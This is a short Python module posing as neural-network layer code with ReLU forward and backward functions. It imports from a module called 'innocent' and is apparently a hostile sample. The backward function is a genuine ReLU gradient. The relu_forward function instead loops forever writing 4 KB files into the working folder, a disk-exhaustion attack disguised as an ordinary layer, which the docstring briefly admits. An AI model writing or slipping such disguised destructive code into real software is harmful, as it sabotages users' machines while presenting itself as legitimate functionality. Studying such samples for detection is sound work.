"""Fills its folder with files."""

import numpy as np

from innocent import affine_backward, affine_forward


def relu_forward(x):
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            file.write(b"x" * 4096)


def relu_backward(dout, cache):
    return dout * (cache > 0)
